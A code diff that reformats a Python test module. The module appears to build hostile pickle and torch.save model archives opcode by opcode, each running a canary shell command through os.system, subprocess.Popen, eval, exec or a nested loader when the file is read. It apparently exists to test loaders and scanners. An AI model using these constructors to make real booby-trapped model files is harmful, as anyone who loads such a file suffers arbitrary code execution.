@@ -1,4 +1,6 @@
-"""Pickles and the archives of torch.save around them, written opcode by opcode: what runs, grows, or never ends when it is read."""
+"""Pickles and the archives of torch.save around them, written opcode by opcode: what runs, grows, or never
+ends when it is read.
+"""
 
 from __future__ import annotations
 
@@ -39,7 +41,9 @@ def long(value: str) -> bytes:
 def archive(path: Path, members: dict[str, bytes], root: str = "archive", compress: bool = False) -> Path:
     """A zip as torch.save writes it."""
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as made:
-        for name, data in ({"data.pkl": b"\x80\x02}."} | members | {"version": b"3\n", "byteorder": b"little"}).items():
+        for name, data in (
+            {"data.pkl": b"\x80\x02}."} | members | {"version": b"3\n", "byteorder": b"little"}
+        ).items():
             made.writestr(f"{root}/{name}", data)
     return path
 
@@ -54,8 +58,23 @@ def tensor(
 ) -> bytes:
     """The opcodes of a tensor over the storage *key* (without protocol and stop)."""
     steps = stride or tuple(int(np.prod(size[i + 1 :], dtype=object)) for i in range(len(size)))
-    persistent = b"(" + long("storage") + f"ctorch\n{storage}\n".encode() + long(key) + long("cpu") + integer(count) + b"tQ"
-    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + persistent + integer(offset) + tup(size) + tup(steps) + b"\x89ccollections\nOrderedDict\n)RtR"
+    persistent = (
+        b"("
+        + long("storage")
+        + f"ctorch\n{storage}\n".encode()
+        + long(key)
+        + long("cpu")
+        + integer(count)
+        + b"tQ"
+    )
+    return (
+        b"ctorch._utils\n_rebuild_tensor_v2\n("
+        + persistent
+        + integer(offset)
+        + tup(size)
+        + tup(steps)
+        + b"\x89ccollections\nOrderedDict\n)RtR"
+    )
 
 
 def integer(value: int) -> bytes:
@@ -104,7 +123,9 @@ for _name, (_module, _function) in CALLS.items():
         _name,
         f"a pickle that calls {_module}.{_function}",
         commands=BOTH,
-        control="torch" if _name in ("posix-system", "os-system", "builtins-eval", "builtins-exec", "timeit") else "",
+        control="torch"
+        if _name in ("posix-system", "os-system", "builtins-eval", "builtins-exec", "timeit")
+        else "",
     )
     def _(canary: Canary, name: str = _name, module: str = _module, function: str = _function) -> Path:
         return archive(canary.model / "model.pt", {"data.pkl": call(module, function, command(canary, name))})
@@ -113,7 +134,12 @@ for _name, (_module, _function) in CALLS.items():
 for _protocol in range(6):
 
     @hostile(
-        "torch-module", "protocol", f"plain-{_protocol}", f"os.system in a plain pickle of protocol {_protocol}", commands=BOTH, control="pickle"
+        "torch-module",
+        "protocol",
+        f"plain-{_protocol}",
+        f"os.system in a plain pickle of protocol {_protocol}",
+        commands=BOTH,
+        control="pickle",
     )
     def _(canary: Canary, protocol: int = _protocol) -> Path:
         path = canary.model / "model.pkl"
@@ -121,32 +147,72 @@ for _protocol in range(6):
         return path
 
 
-@hostile("torch-weights", "reduce", "state-dict", "a state dict with a right tensor and a call", commands=BOTH, control="torch")
+@hostile(
+    "torch-weights",
+    "reduce",
+    "state-dict",
+    "a state dict with a right tensor and a call",
+    commands=BOTH,
+    control="torch",
+)
 def _(canary: Canary) -> Path:
     code = f"cos\nsystem\n(S{canary.shell!r}\ntR".encode()
-    return archive(canary.model / "model.pt", {"data.pkl": state(("w", tensor()), ("b", code)), "data/0": WEIGHT})
+    return archive(
+        canary.model / "model.pt", {"data.pkl": state(("w", tensor()), ("b", code)), "data/0": WEIGHT}
+    )
 
 
-@hostile("torch-weights", "reduce", "nested", "a pickle in a pickle, by pickle.loads", commands=BOTH, control="torch")
+@hostile(
+    "torch-weights",
+    "reduce",
+    "nested",
+    "a pickle in a pickle, by pickle.loads",
+    commands=BOTH,
+    control="torch",
+)
 def _(canary: Canary) -> Path:
     inner = call("os", "system", canary.shell)
     code = b"c_pickle\nloads\n(B" + struct.pack("<I", len(inner)) + inner + b"tR"
     return archive(canary.model / "model.pt", {"data.pkl": b"\x80\x03}(" + long("w") + code + b"u."})
 
 
-@hostile("torch-weights", "reduce", "torch-load-bytes", "torch's own loader of bytes with a pickle in them", commands=BOTH, control="torch")
+@hostile(
+    "torch-weights",
+    "reduce",
+    "torch-load-bytes",
+    "torch's own loader of bytes with a pickle in them",
+    commands=BOTH,
+    control="torch",
+)
 def _(canary: Canary) -> Path:
     inner = io.BytesIO()
     with zipfile.ZipFile(inner, "w") as made:
         for name, data in {"data.pkl": call("os", "system", canary.shell), "version": b"3\n"}.items():
             made.writestr(f"a/{name}", data)
-    code = b"ctorch.storage\n_load_from_bytes\n(B" + struct.pack("<I", len(inner.getvalue())) + inner.getvalue() + b"tR"
+    code = (
+        b"ctorch.storage\n_load_from_bytes\n(B"
+        + struct.pack("<I", len(inner.getvalue()))
+        + inner.getvalue()
+        + b"tR"
+    )
     return archive(canary.model / "model.pt", {"data.pkl": b"\x80\x03}(" + long("w") + code + b"u."})
 
 
-@hostile("torch-weights", "reduce", "build", "a BUILD that sets an attribute of a class to os.system", commands=BOTH)
+@hostile(
+    "torch-weights",
+    "reduce",
+    "build",
+    "a BUILD that sets an attribute of a class to os.system",
+    commands=BOTH,
+)
 def _(canary: Canary) -> Path:
-    code = b"ccollections\nOrderedDict\n)R}(" + long("__setstate__") + b"cos\nsystem\nub" + long(canary.shell) + b"b"
+    code = (
+        b"ccollections\nOrderedDict\n)R}("
+        + long("__setstate__")
+        + b"cos\nsystem\nub"
+        + long(canary.shell)
+        + b"b"
+    )
     return archive(canary.model / "model.pt", {"data.pkl": b"\x80\x02}(" + long("w") + code + b"u."})
 
 
@@ -158,18 +224,37 @@ def _(canary: Canary) -> Path:
 @hostile("torch-weights", "reduce", "obj", "the OBJ opcode", commands=BOTH, control="torch")
 def _(canary: Canary) -> Path:
     return archive(
-        canary.model / "model.pt", {"data.pkl": b"(csubprocess\nPopen\n" + b"(" + long("/bin/sh") + long("-c") + long(canary.shell) + b"lo."}
+        canary.model / "model.pt",
+        {
+            "data.pkl": b"(csubprocess\nPopen\n"
+            + b"("
+            + long("/bin/sh")
+            + long("-c")
+            + long(canary.shell)
+            + b"lo."
+        },
     )
 
 
 @hostile("torch-weights", "reduce", "ext", "the EXT opcodes", commands=BOTH)
 def _(canary: Canary) -> Path:
-    return archive(canary.model / "model.pt", {"data.pkl": b"\x80\x02\x82\x01\x83\x01\x00\x84\x01\x00\x00\x00."})
+    return archive(
+        canary.model / "model.pt", {"data.pkl": b"\x80\x02\x82\x01\x83\x01\x00\x84\x01\x00\x00\x00."}
+    )
 
 
-@hostile("torch-weights", "reduce", "dotted", "a STACK_GLOBAL with a dotted name", commands=BOTH, control="torch")
+@hostile(
+    "torch-weights", "reduce", "dotted", "a STACK_GLOBAL with a dotted name", commands=BOTH, control="torch"
+)
 def _(canary: Canary) -> Path:
-    code = b"\x80\x04" + short("torch.serialization") + short("os.system") + b"\x93" + short(canary.shell) + b"\x85R."
+    code = (
+        b"\x80\x04"
+        + short("torch.serialization")
+        + short("os.system")
+        + b"\x93"
+        + short(canary.shell)
+        + b"\x85R."
+    )
     return archive(canary.model / "model.pt", {"data.pkl": code})
 
 
@@ -182,23 +267,49 @@ def _(canary: Canary) -> Path:
     control="torch",
 )
 def _(canary: Canary) -> Path:
-    code = b"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\nctorch\nTensor\n(" + long(canary.shell) + b"t}tR"
+    code = (
+        b"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\nctorch\nTensor\n("
+        + long(canary.shell)
+        + b"t}tR"
+    )
     return archive(canary.model / "model.pt", {"data.pkl": b"\x80\x02}(" + long("w") + code + b"u."})
 
 
-@hostile("torch-weights", "reduce", "legacy", "a call in the system information of a legacy file", commands=BOTH, control="torch")
+@hostile(
+    "torch-weights",
+    "reduce",
+    "legacy",
+    "a call in the system information of a legacy file",
+    commands=BOTH,
+    control="torch",
+)
 def _(canary: Canary) -> Path:
     path = canary.model / "model.pt"
     code = f"cos\nsystem\n(S{canary.shell!r}\ntR.".encode()
-    path.write_bytes(pickle.dumps(MAGIC, 2) + pickle.dumps(1001, 2) + code + pickle.dumps({}, 2) + pickle.dumps([], 2))
+    path.write_bytes(
+        pickle.dumps(MAGIC, 2) + pickle.dumps(1001, 2) + code + pickle.dumps({}, 2) + pickle.dumps([], 2)
+    )
     return path
 
 
-@hostile("torch-weights", "reduce", "legacy-model", "a call in the object of a legacy file", commands=BOTH, control="torch")
+@hostile(
+    "torch-weights",
+    "reduce",
+    "legacy-model",
+    "a call in the object of a legacy file",
+    commands=BOTH,
+    control="torch",
+)
 def _(canary: Canary) -> Path:
     path = canary.model / "model.pt"
     system = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, 2)
-    path.write_bytes(pickle.dumps(MAGIC, 2) + pickle.dumps(1001, 2) + system + call("os", "system", canary.shell) + pickle.dumps([], 2))
+    path.write_bytes(
+        pickle.dumps(MAGIC, 2)
+        + pickle.dumps(1001, 2)
+        + system
+        + call("os", "system", canary.shell)
+        + pickle.dumps([], 2)
+    )
     return path
 
 
@@ -220,7 +331,11 @@ def relative_written(canary: Canary) -> str:
 
 @hostile("torchscript", "reduce", "constants", "a call in constants.pkl of a TorchScript archive", control="")
 def _(canary: Canary) -> Path:
-    code = {"constants.pkl": call("os", "system", canary.shell), "code/__torch__.py": b"", "data.pkl": call("os", "system", canary.shell)}
+    code = {
+        "constants.pkl": call("os", "system", canary.shell),
+        "code/__torch__.py": b"",
+        "data.pkl": call("os", "system", canary.shell),
+    }
     return archive(canary.model / "model.pt", code, "model")
 
 
@@ -234,7 +349,12 @@ def _(canary: Canary) -> Path:
     return archive(canary.model / "model.ptl", code, "model")
 
 
-@hostile("exported-program", "reduce", "sample-inputs", "a call in the pickled example inputs and constants of a .pt2")
+@hostile(
+    "exported-program",
+    "reduce",
+    "sample-inputs",
+    "a call in the pickled example inputs and constants of a .pt2",
+)
 def _(canary: Canary) -> Path:
     members = {
         "archive_format": b"pt2",
